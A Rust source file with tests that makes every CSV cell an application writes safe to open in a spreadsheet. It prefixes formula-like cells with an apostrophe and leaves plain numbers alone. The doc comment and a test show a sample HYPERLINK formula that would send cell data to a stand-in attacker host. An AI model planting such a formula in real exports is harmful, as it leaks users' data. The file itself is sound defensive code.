//! Cells of every CSV the application writes, made safe to open in a spreadsheet.
//!
//! Excel, WPS and LibreOffice treat a cell that begins with `=`, `+`, `-` or `@` as a
//! formula (and a leading tab or carriage return can hide such a start), so a clerk's
//! evidence title `=HYPERLINK("http://evil.example/?"&A1,"点击")` would run in the
//! office's spreadsheet. Such cells get a leading `'`, which spreadsheets show as text
//! (OWASP's advice for CSV injection). Every CSV writer goes through [`write_record`].

use std::borrow::Cow;
use std::io::Write;

/// Characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// The cell as it is safe to write. A cell that is a plain number (`-3`, `-1.5`) is left
/// alone: a spreadsheet reads it as that number and nothing else, and prefixing it would
/// turn the negative figures of a report into text that no longer sums. Anything else
/// that starts like a formula gets a `'` in front.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if !cell.starts_with(FORMULA_STARTS) || is_plain_number(cell) {
        return Cow::Borrowed(cell);
    }
    Cow::Owned(format!("'{cell}"))
}

/// Digits with at most one sign and one decimal point, nothing else (no exponent, no
/// spaces): the only shapes that cannot be a formula.
fn is_plain_number(cell: &str) -> bool {
    let unsigned = cell
        .strip_prefix('-')
        .or_else(|| cell.strip_prefix('+'))
        .unwrap_or(cell);
    let (whole, fraction) = unsigned.split_once('.').unwrap_or((unsigned, ""));
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// Writes one record with every cell neutralised.
pub fn write_record<W, I, T>(writer: &mut csv::Writer<W>, cells: I) -> csv::Result<()>
where
    W: Write,
    I: IntoIterator<Item = T>,
    T: AsRef<str>,
{
    writer.write_record(
        cells
            .into_iter()
            .map(|cell| neutralise(cell.as_ref()).into_owned()),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_get_a_quote() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
            "@SUM(1+1)cmd.pdf",
            "+1+2",
            "-1+2",
            "\tinvisible",
            "\r=1",
            "-",
            "-1e3",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn ordinary_text_and_plain_numbers_stay() {
        for cell in [
            "",
            "食品抽检报告.pdf",
            "12",
            "-3",
            "-1.5",
            "+7",
            "a=b",
            "'quoted",
        ] {
            assert_eq!(neutralise(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn records_are_written_neutralised() {
        let mut writer = csv::Writer::from_writer(Vec::new());
        write_record(&mut writer, ["=1+1", "ok", "-2"]).unwrap();
        let text = String::from_utf8(writer.into_inner().unwrap()).unwrap();
        assert_eq!(text, "'=1+1,ok,-2\n");
    }
}
